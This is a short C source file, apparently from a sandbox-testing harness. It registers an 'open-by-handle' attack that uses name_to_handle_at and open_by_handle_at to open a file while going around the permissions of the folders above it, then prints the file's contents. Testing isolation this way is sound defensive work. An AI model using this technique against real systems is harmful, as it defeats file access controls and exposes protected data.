// Opens a file by the number its file system knows it by, past every folder above it.
// open_by_handle_at(2)
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>

#include "attack.h"

// arguments: the file, and a folder of the same file system that may be opened
static void OpenByHandle(pid_t target, char** arguments) {
  (void)target;
  static union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } file;
  int mount_id;
  file.handle.handle_bytes = MAX_HANDLE_SZ;
  if (name_to_handle_at(AT_FDCWD, arguments[0], &file.handle, &mount_id, 0) != 0) Refused("name_to_handle_at");
  const int fd = open_by_handle_at(open(arguments[1], O_RDONLY | O_CLOEXEC), &file.handle, O_RDONLY);
  if (fd < 0) return Refused("open_by_handle_at");
  PrintAll(fd);
}

ATTACK("open-by-handle", OpenByHandle)
